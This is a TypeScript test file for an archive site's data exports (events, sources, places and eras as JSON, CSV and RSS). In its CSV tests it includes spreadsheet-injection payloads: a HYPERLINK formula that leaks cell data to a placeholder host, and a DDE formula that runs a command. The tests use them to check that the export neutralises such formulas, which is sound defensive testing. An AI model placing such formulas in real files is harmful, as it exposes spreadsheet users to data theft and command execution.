import { describe, expect, it } from 'vitest';
import { getRssString } from '@astrojs/rss';
import { XMLParser } from 'fast-xml-parser';
import {
  EVENTS_CSV_COLUMNS,
  csvField,
  csvText,
  spreadsheetSafe,
  erasJson,
  eventsCsv,
  eventsFeedItems,
  eventsJson,
  jsonFileBody,
  placesJson,
  sourcesJson,
} from '../../src/lib/data-export.ts';
import type { Chronology, Source } from '../../src/lib/model.ts';
import { testEvent } from '../support/chronology-fixtures.ts';
import { publishedEventsFileSchema, publishedJsonSchema, type PublishedFileName } from '../../src/schemas/published.ts';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';

const SITE = 'https://example.org/archive/karabakh/';

/** A quote with everything CSV must escape: comma, double quotes, a line break. */
const AWKWARD_QUOTE = 'He said, "we will not leave",\nand left the next day.';

const event = testEvent;

const source = (id: string, rest: Partial<Source> = {}): Source => ({
  id,
  title: `Article ${id}`,
  titleSupplied: false,
  authorStatus: 'not-stated',
  authors: [],
  published: '2023-10',
  publishedBasis: { kind: 'stated', note: 'Dateline.' },
  genre: 'news-report',
  language: 'en',
  capture: { file: `${id}.txt`, sha256: 'a'.repeat(64) },
  nonArticle: [],
  ...rest,
});

/** A small chronology: an open-ended event, a disputed event with awkward quotes, two sources. */
const chronology: Chronology = {
  version: '2026-11-23',
  redirects: {},
  events: [
    event('1992-shusha', '1992-05-08', {
      places: ['shusha'],
      tags: ['capture'],
      dateBasis: { kind: 'stated', claim: 'a' },
      claims: [
        { id: 'a', source: 'alpha', quote: AWKWARD_QUOTE, kind: 'text', note: 'Contradicts beta, "strongly".' },
        { id: 'b', source: 'beta', quote: 'Nothing, of the kind.', kind: 'reported-speech' },
        { id: 'c', source: 'beta', quote: 'A plain caption', kind: 'caption' },
      ],
      disputes: [
        {
          question: 'Who left first?',
          positions: [
            { source: 'alpha', claim: 'a', answer: 'They left.' },
            { source: 'beta', claim: 'b', answer: 'They did not.' },
          ],
        },
      ],
    }),
    event('2023-exodus', '2023-09-19/..', { era: 'aftermath' }),
  ],
  // Deliberately out of order: the builders sort by id.
  sources: [
    source('beta', {
      authorStatus: 'named',
      authors: [{ name: 'B. Writer' }],
      translator: 'T. Ranslator',
      shortName: 'Writer essay',
    }),
    source('alpha', { publisher: 'The Paper, Ltd.', publisherBasis: 'Masthead.', url: 'https://paper.example/a' }),
  ],
  places: [
    {
      id: 'shusha',
      label: 'Shusha / Shushi',
      kind: 'town',
      names: [{ name: 'Shusha' }, { name: 'Shushi', note: 'Armenian' }],
    },
  ],
  eras: [
    { id: 'aftermath', name: 'Aftermath', start: '2023-01-01', end: '2024-12-31', description: 'After.' },
    { id: 'war', name: 'War', start: '1988-01-01', end: '1994-12-31', description: 'The war.' },
  ],
};

/**
 * A strict RFC 4180 parser, written independently of the writer so the test can disagree with
 * it: records end in CRLF, quoted fields may hold anything, a bare quote or LF is an error.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  const endField = () => {
    row.push(field);
    field = '';
  };
  while (i < text.length) {
    const ch = text[i];
    if (ch === '"' && field === '') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else field += text[i++];
      }
      if (i < text.length && text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
    } else if (ch === ',') {
      endField();
      i++;
    } else if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`CR without LF at ${i}`);
      endField();
      rows.push(row);
      row = [];
      i += 2;
    } else if (ch === '\n') {
      throw new Error(`bare LF at ${i}: records must end in CRLF`);
    } else if (ch === '"') {
      throw new Error(`quote inside an unquoted field at ${i}`);
    } else {
      field += ch;
      i++;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('last record does not end in CRLF');
  return rows;
}

describe('the published JSON Schemas', () => {
  const FILES: Record<PublishedFileName, unknown> = {
    events: eventsJson(chronology, SITE),
    sources: sourcesJson(chronology, SITE),
    places: placesJson(chronology, SITE),
    eras: erasJson(chronology, SITE),
  };
  // Ajv, written independently of zod, reads the generated JSON Schema as a consumer would.
  const ajv = addFormats(new Ajv2020({ allErrors: true, strict: false }));

  const validators = new Map(
    (Object.keys(FILES) as PublishedFileName[]).map((name) => [name, ajv.compile(publishedJsonSchema(name, SITE))]),
  );

  it.each(Object.keys(FILES) as PublishedFileName[])('%s.json is valid under /data/%s.schema.json', (name) => {
    const validate = validators.get(name)!;
    expect(validate(FILES[name]), ajv.errorsText(validate.errors)).toBe(true);
  });

  it('refuses a record that breaks the contract: a missing field, an extra field, a bad date', () => {
    const validate = validators.get('sources')!;
    const [first] = sourcesJson(chronology, SITE).sources;
    const broken = (source: object) => validate({ version: 'v', sources: [source] });
    const { shortName: _dropped, ...withoutShortName } = first!;
    expect(broken(withoutShortName)).toBe(false);
    expect(broken({ ...first, side: 'one' })).toBe(false);
    expect(broken({ ...first, publishedStart: '2023-13-45' })).toBe(false);
    expect(broken(first!)).toBe(true);
  });
});

describe('eventsJson', () => {
  const file = eventsJson(chronology, SITE);

  it('matches the published JSON contract (src/schemas/published.ts)', () => {
    expect(publishedEventsFileSchema.safeParse(file).error).toBeUndefined();
  });

  it('keeps chronological order and writes absolute permalinks', () => {
    expect(file.events.map((e) => e.id)).toEqual(['1992-shusha', '2023-exodus']);
    expect(file.events[0]?.url).toBe('https://example.org/archive/karabakh/events/1992-shusha/');
    expect(file.version).toBe('2026-11-23');
  });

  it('sorts events that arrive out of order', () => {
    const reversed = { ...chronology, events: [...chronology.events].reverse() };
    expect(eventsJson(reversed, SITE).events.map((e) => e.id)).toEqual(['1992-shusha', '2023-exodus']);
  });

  it('gives ISO bounds, precision and a null end only for an open range', () => {
    const [shusha, exodus] = file.events;
    expect(shusha).toMatchObject({ date: '1992-05-08', start: '1992-05-08', end: '1992-05-08', precision: 'day' });
    expect(exodus).toMatchObject({ date: '2023-09-19/..', start: '2023-09-19', end: null, precision: 'range' });
  });

  it('writes keys in a fixed order and omits absent optional fields', () => {
    const first = file.events[0]!;
    expect(Object.keys(first)).toEqual([
      'id',
      'url',
      'date',
      'start',
      'end',
      'precision',
      'approximate',
      'uncertain',
      'dateBasis',
      'title',
      'summary',
      'era',
      'places',
      'tags',
      'claims',
      'disputes',
      'corrections',
    ]);
    expect(first.claims[0]).toEqual({
      id: 'a',
      source: 'alpha',
      quote: AWKWARD_QUOTE,
      kind: 'text',
      note: 'Contradicts beta, "strongly".',
    });
    expect('note' in first.claims[1]!).toBe(false);
    expect(first.dateBasis).toEqual({ kind: 'stated', claim: 'a' });
    expect(first.disputes[0]?.positions.map((p) => p.claim)).toEqual(['a', 'b']);
  });

  it('is deterministic', () => {
    expect(jsonFileBody(eventsJson(chronology, SITE))).toBe(jsonFileBody(file));
    expect(jsonFileBody(file).endsWith('}\n')).toBe(true);
  });
});

describe('sourcesJson, placesJson, erasJson', () => {
  it('lists sources by id with their page, capture and nulls for what the capture does not say', () => {
    const { sources, version } = sourcesJson(chronology, SITE);
    expect(version).toBe('2026-11-23');
    expect(sources.map((s) => s.id)).toEqual(['alpha', 'beta']);
    const [alpha, beta] = sources;
    expect(alpha).toMatchObject({
      url: 'https://example.org/archive/karabakh/sources/alpha/',
      captureFile: 'alpha.txt',
      captureUrl: 'https://example.org/archive/karabakh/captures/alpha.txt',
      sha256: 'a'.repeat(64),
      publisher: 'The Paper, Ltd.',
      originalUrl: 'https://paper.example/a',
      translator: null,
      shortName: null,
      published: '2023-10',
      publishedStart: '2023-10-01',
      publishedEnd: '2023-10-31',
      events: ['1992-shusha', '2023-exodus'],
    });
    expect(beta).toMatchObject({
      publisher: null,
      originalUrl: null,
      translator: 'T. Ranslator',
      shortName: 'Writer essay',
      events: ['1992-shusha'],
    });
    expect(beta?.authors).toEqual([{ name: 'B. Writer', affiliation: null }]);
  });

  it('lists places with every name and the events set there', () => {
    const [shusha] = placesJson(chronology, SITE).places;
    expect(shusha).toEqual({
      id: 'shusha',
      url: 'https://example.org/archive/karabakh/places/#shusha',
      label: 'Shusha / Shushi',
      kind: 'town',
      names: [
        { name: 'Shusha', note: null },
        { name: 'Shushi', note: 'Armenian' },
      ],
      events: ['1992-shusha'],
    });
  });

  it('lists eras in date order with their pages and events', () => {
    const { eras } = erasJson(chronology, SITE);
    expect(eras.map((e) => e.id)).toEqual(['war', 'aftermath']);
    expect(eras[0]).toMatchObject({ url: 'https://example.org/archive/karabakh/eras/war/', events: ['1992-shusha'] });
    expect(eras[1]?.events).toEqual(['2023-exodus']);
  });
});

describe('eventsCsv', () => {
  const text = eventsCsv(chronology, SITE);
  /** Parsed inside each test, so a malformed CSV fails the tests rather than the whole file. */
  const parsed = () => {
    const [header, ...rows] = parseCsv(text);
    return { header, rows };
  };
  const column = (row: string[] | undefined, name: (typeof EVENTS_CSV_COLUMNS)[number]) =>
    row?.[EVENTS_CSV_COLUMNS.indexOf(name)];

  it('is RFC 4180 with CRLF after every record, header first', () => {
    const { header, rows } = parsed();
    expect(header).toEqual([...EVENTS_CSV_COLUMNS]);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(rows.every((row) => row.length === EVENTS_CSV_COLUMNS.length)).toBe(true);
  });

  it('has one row per claim, in chronological order', () => {
    const { rows } = parsed();
    expect(rows).toHaveLength(4);
    expect(rows.map((row) => `${column(row, 'event_id')}#${column(row, 'claim_id')}`)).toEqual([
      '1992-shusha#a',
      '1992-shusha#b',
      '1992-shusha#c',
      '2023-exodus#c1',
    ]);
  });

  it('round-trips quotes with commas, double quotes and line breaks', () => {
    const { rows } = parsed();
    expect(column(rows[0], 'quote')).toBe(AWKWARD_QUOTE);
    expect(column(rows[0], 'note')).toBe('Contradicts beta, "strongly".');
    expect(column(rows[0], 'publisher')).toBe('The Paper, Ltd.');
    expect(column(rows[1], 'quote')).toBe('Nothing, of the kind.');
  });

  it('says who said what, and which claims are disputed', () => {
    const { rows } = parsed();
    expect(
      rows.map((row) => [
        column(row, 'source_id'),
        column(row, 'source_title'),
        column(row, 'claim_kind'),
        column(row, 'disputed'),
      ]),
    ).toEqual([
      ['alpha', 'Article alpha', 'text', 'yes'],
      ['beta', 'Article beta', 'reported-speech', 'yes'],
      ['beta', 'Article beta', 'caption', 'no'],
      ['alpha', 'Article alpha', 'text', 'no'],
    ]);
    expect(column(rows[3], 'end')).toBe('');
    expect(column(rows[3], 'event_url')).toBe('https://example.org/archive/karabakh/events/2023-exodus/');
  });

  it('neutralises every cell a spreadsheet would run as a formula, reversibly', () => {
    const risky = [
      '=HYPERLINK("https://x.example/?"&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      "'already quoted'",
    ];
    const safe = ['plain', '1992-02-26', '', ' =1', '\u2212 minus sign', '“=” in quotes'];
    const [parsedRow] = parseCsv(csvText([[...risky, ...safe]]));
    // Every risky cell starts with an apostrophe, so no spreadsheet reads it as a formula ...
    expect(parsedRow!.slice(0, risky.length).every((cell) => cell.startsWith("'"))).toBe(true);
    // ... and removing one leading apostrophe, as the data page says, gives back the exact text.
    expect(parsedRow!.map((cell) => cell.replace(/^'/, ''))).toEqual([...risky, ...safe]);
    expect(parsedRow!.slice(risky.length)).toEqual(safe);
    expect(spreadsheetSafe('=1')).toBe("'=1");
  });

  it('writes a formula-like quote so that it reads as text', () => {
    const formula = "=cmd|' /C calc'!A0";
    const withFormula = {
      ...chronology,
      events: chronology.events.map((e, i) => (i === 0 ? { ...e, claims: [{ ...e.claims[0]!, quote: formula }] } : e)),
    };
    const [, ...rows] = parseCsv(eventsCsv(withFormula, SITE));
    const quotes = rows.map((row) => column(row, 'quote'));
    expect(quotes).toContain(`'${formula}`);
    expect(quotes).not.toContain(formula);
  });

  it('quotes only what needs quoting', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "x"')).toBe('"say ""x"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
  });
});

describe('eventsFeedItems', () => {
  const items = eventsFeedItems(chronology, SITE);

  it('dates every item by the content version, not the clock', () => {
    expect(items.map((item) => item.pubDate?.toISOString())).toEqual([
      '2026-11-23T00:00:00.000Z',
      '2026-11-23T00:00:00.000Z',
    ]);
    expect(
      eventsFeedItems({ ...chronology, version: 'unversioned' }, SITE).every((item) => item.pubDate === undefined),
    ).toBe(true);
  });

  it('uses the permalink as a stable id and says when the event happened', () => {
    expect(items[0]).toMatchObject({
      link: 'https://example.org/archive/karabakh/events/1992-shusha/',
      guid: 'https://example.org/archive/karabakh/events/1992-shusha/',
      title: '8 May 1992: Title of 1992-shusha',
      description: 'Summary of 1992-shusha.',
      categories: ['war', 'capture'],
    });
    expect(items[1]?.title).toBe('from 19 September 2023: Title of 2023-exodus');
  });

  it('renders through @astrojs/rss reproducibly, with permalink guids', async () => {
    const render = () =>
      getRssString({ title: 'Feed', description: 'Events', site: SITE, items: eventsFeedItems(chronology, SITE) });
    const xml = await render();
    expect(await render()).toBe(xml);
    const parsed = new XMLParser({ ignoreAttributes: false }).parse(xml) as {
      rss: { channel: { item: { guid: { '#text': string; '@_isPermaLink': string }; pubDate: string }[] } };
    };
    const [first] = parsed.rss.channel.item;
    expect(first?.guid['#text']).toBe('https://example.org/archive/karabakh/events/1992-shusha/');
    expect(first?.guid['@_isPermaLink']).toBe('true');
    expect(first?.pubDate).toBe('Mon, 23 Nov 2026 00:00:00 GMT');
  });
});
